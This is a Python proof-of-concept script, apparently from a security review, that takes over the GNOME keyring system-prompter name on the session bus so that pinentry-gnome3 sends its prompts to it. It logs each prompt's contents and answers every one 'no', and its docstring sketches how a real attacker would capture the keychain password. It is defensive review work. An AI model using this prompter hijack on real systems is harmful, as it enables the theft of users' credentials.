#!/usr/bin/python3
"""Review 55's attacker: a process of the user that is gcr's system prompter.

  prompter_squatter.py LOG
      Owns org.gnome.keyring.SystemPrompter on the session bus (taking it from gcr-prompter,
      which allows replacement, or first, before the bus activates it), writes "owned" to
      LOG.ready, then plays the prompter's side of the protocol far enough for pinentry-gnome3
      to hand it the question: every PerformPrompt's properties are written to LOG. Each prompt
      is answered "no". A real attacker would draw the password field next and keep the
      keychain's password typed into it.
"""
import sys

from jeepney import DBusAddress, MessageType, new_method_call, new_method_return
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import open_dbus_connection

CALLBACK = 'org.gnome.keyring.internal.Prompter.Callback'


def text(value):
    if isinstance(value, tuple) and len(value) == 2:
        return value[1]
    return value


def main():
    log = sys.argv[1]
    conn = open_dbus_connection(bus='SESSION')
    granted = conn.send_and_get_reply(message_bus.RequestName('org.gnome.keyring.SystemPrompter', 2 | 4)).body[0]
    with open(log + '.ready', 'w') as ready:
        ready.write(f'owned {granted}\n')
    while True:
        msg = conn.receive()
        if msg.header.message_type != MessageType.method_call:
            continue
        member = msg.header.fields.get(3)
        sender = msg.header.fields.get(7)
        if member == 'BeginPrompting':
            callback = msg.body[0]
            conn.send(new_method_return(msg))
            ready = DBusAddress(callback, bus_name=sender, interface=CALLBACK)
            conn.send(new_method_call(ready, 'PromptReady', 'sa{sv}s', ('', {}, '')))
        elif member == 'PerformPrompt':
            callback, kind, properties, _ = msg.body
            with open(log, 'a') as f:
                f.write(f'{kind}: ' + '; '.join(f'{k}={text(v)}' for k, v in sorted(properties.items())) + '\n')
            conn.send(new_method_return(msg))
            ready = DBusAddress(callback, bus_name=sender, interface=CALLBACK)
            conn.send(new_method_call(ready, 'PromptReady', 'sa{sv}s', ('no', {}, '')))
        elif member == 'StopPrompting':
            conn.send(new_method_return(msg))
            done = DBusAddress(msg.body[0], bus_name=sender, interface=CALLBACK)
            conn.send(new_method_call(done, 'PromptDone', '', ()))
        else:
            conn.send(new_method_return(msg))


sys.exit(main())
